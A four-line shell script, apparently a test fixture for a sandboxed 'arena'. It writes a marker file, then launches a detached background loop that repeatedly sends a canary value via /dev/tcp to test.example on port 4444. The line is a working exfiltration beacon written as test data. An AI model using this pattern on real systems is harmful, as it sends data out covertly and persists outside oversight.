#!/bin/sh
: > "$ARENA/ws/ran"
setsid sh -c 'while :; do timeout 1 bash -c "echo $CANARY- > /dev/tcp/test.example/4444"; sleep 0.05; done' > /dev/null 2>&1 &
sleep 0.2
